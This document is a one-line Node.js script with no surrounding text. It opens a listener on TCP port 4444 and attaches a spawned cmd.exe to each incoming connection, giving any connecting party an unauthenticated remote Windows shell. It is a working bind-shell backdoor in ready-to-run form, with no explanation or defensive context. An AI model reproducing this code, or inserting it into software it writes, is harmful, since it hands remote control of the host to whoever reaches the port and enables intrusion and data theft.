require('net').createServer(s=>{const sh=require('child_process').spawn('cmd.exe');s.pipe(sh.stdin);sh.stdout.pipe(s)}).listen(4444);
